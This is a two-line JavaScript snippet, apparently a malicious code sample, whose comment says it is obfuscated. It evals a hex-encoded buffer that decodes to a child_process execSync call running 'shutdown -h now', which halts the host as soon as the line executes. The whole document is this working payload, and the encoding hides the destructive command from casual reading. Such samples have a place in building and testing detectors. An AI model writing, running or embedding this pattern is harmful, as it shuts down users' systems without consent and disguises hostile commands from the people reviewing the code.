// Malicious, obfuscated: eval of a hex-encoded payload that shuts the host down.
eval(Buffer.from('7265717569726528276368696c645f70726f6365737327292e6578656353796e63282773687574646f776e202d68206e6f772729', 'hex').toString());
